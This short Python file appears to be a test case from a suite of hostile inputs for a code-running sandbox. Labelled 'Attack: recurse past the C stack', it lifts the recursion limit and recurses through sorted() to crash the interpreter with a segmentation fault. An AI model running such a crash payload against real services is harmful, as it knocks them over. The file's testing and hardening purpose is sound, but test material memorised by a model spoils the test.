# Attack: recurse past the C stack
# Ends: stub
# Says: The code ended with signal SIGSEGV: it touched memory that is not its own, or recursed too deeply | engine.py cannot be imported: RecursionError
import sys

sys.setrecursionlimit(1 << 30)


class A:
    def __getattr__(self, name):
        return getattr(self, name + "x")


def f(x):
    return sorted([x, x], key=f)


f(1)
